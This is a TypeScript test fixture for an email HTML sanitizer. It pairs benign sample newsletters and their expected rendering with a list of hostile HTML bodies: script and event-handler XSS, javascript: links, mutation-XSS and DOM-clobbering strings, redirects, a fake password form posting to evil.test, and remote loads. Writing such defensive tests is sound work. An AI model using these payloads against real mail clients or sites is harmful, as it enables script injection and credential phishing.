/** HTML bodies written for this project: hostile ones, and honest ones with their expected look. */

const letter = '<p>Olá! Seu pedido foi enviado.</p>';

export const hostileBodies: Record<string, string> = {
  script: `${letter}<script>window.__pwn = 1; document.title = 'pwned'</script>`,
  'handler on a broken image': `${letter}<img src=x onerror="window.__pwn=1"><svg onload=window.__pwn=1></svg>`,
  'handler in a tag that is not one':
    '<custom-x onpointerover=window.__pwn=1 tabindex=1 autofocus onfocus=window.__pwn=1>x</custom-x>',
  'script addresses': ['javascript', 'JaVa\tScRiPt', 'data', 'vbscript', 'view-source']
    .map((scheme) => `<a href="${scheme}:text/html,<script>window.__pwn=1</script>">trap</a>`)
    .join(' '),
  'a frame within':
    '<iframe srcdoc="<script>parent.__pwn=1</script>"></iframe><object data="https://evil.test/x"></object>',
  'going elsewhere':
    '<meta http-equiv="refresh" content="0;url=https://evil.test/"><base href="https://evil.test/" target="_top"><a href="/here">x</a>',
  'a false form': '<form action="https://evil.test/"><input name=password autofocus><button>Entrar</button></form>',
  'what loads':
    '<link rel=stylesheet href="https://evil.test/a.css"><style>@import "https://evil.test/b.css";p{background:url(https://evil.test/c)}</style><video poster="https://evil.test/d" src="https://evil.test/e"></video><img srcset="https://evil.test/f 2x"><bgsound src="https://evil.test/g">',
  'a cover':
    '<div style="position:fixed;inset:0;z-index:99999;background:#fff;transform:scale(9)">Sessão expirada</div>',
  'another tree on second parsing':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.__pwn=1&gt;">',
  'names of the page':
    '<img name=getElementById><form id=cookie name=forms><input name=body></form><a id=location href="https://evil.test/">x</a>',
  'a style that ends early': `<p style="font-family:'x}body{display:none'; width: expression(window.__pwn=1); background: url(&quot;https://evil.test/x&quot;), url(y)">x</p>`,
  'a request to ourselves': '<img src="/api/emails?to=x&amp;id=y"><img src="//"><img src="\\\\evil.test\\x">',
};

export interface Newsletter {
  html: string;
  texts: string[];
  links: string[];
  /** Computed colour by the text of its element. */
  colours: Record<string, string>;
  remoteImages: number;
}

export const newsletters: Record<string, Newsletter> = {
  'a shop, in tables': {
    html: `<!DOCTYPE html><html><head><title>Loja</title><style>.x{color:red}</style></head><body bgcolor="#f4f4f7">
      <table width="100%" cellpadding="0" cellspacing="0" background="https://images.shop.test/paper.png"><tr><td align="center">
      <table width="600" bgcolor="#ffffff"><tr><td style="padding:24px;background-image:url('https://images.shop.test/top.jpg')">
      <h1 style="color:#a4451a;font-size:24px">Ofertas da semana</h1><img src="https://images.shop.test/logo.png" width="180" height="60" alt="Loja São João">
      <ul><li>Café 500 g</li><li>Pão de queijo</li></ul>
      <a href="https://click.shop.test/a?b=1&amp;c=2" style="background-color:#0b5f6b;color:#ffffff;padding:10px">Ver ofertas</a>
      <img src="https://images.shop.test/logo.png" alt=""><img src="https://track.shop.test/open.gif" width="1" height="1" alt="">
      </td></tr></table></td></tr></table></body></html>`,
    texts: ['Ofertas da semana', 'Café 500 g', 'Pão de queijo', 'Ver ofertas', 'Loja São João'],
    links: ['https://click.shop.test/a?b=1&c=2'],
    colours: { 'Ofertas da semana': 'rgb(164, 69, 26)', 'Ver ofertas': 'rgb(255, 255, 255)' },
    remoteImages: 4,
  },
  'a letter from right to left': {
    html: '<html dir="rtl" lang="he"><body><p>שלום עולם</p><p><a href="https://shop.test/">shop.test</a></p></body></html>',
    texts: ['שלום עולם'],
    links: ['https://shop.test/'],
    colours: {},
    remoteImages: 0,
  },
  'an answer with its quotation': {
    html: '<div>Combinado!</div><blockquote type="cite"><pre>  Amanhã às 10?</pre><b>Ana</b> <i>escreveu</i></blockquote><hr><p><font color="#0000ff" size="2">--<br>João</font></p>',
    texts: ['Combinado!', 'Amanhã às 10?', 'Ana escreveu'],
    links: [],
    colours: { João: 'rgb(0, 0, 255)' },
    remoteImages: 0,
  },
};
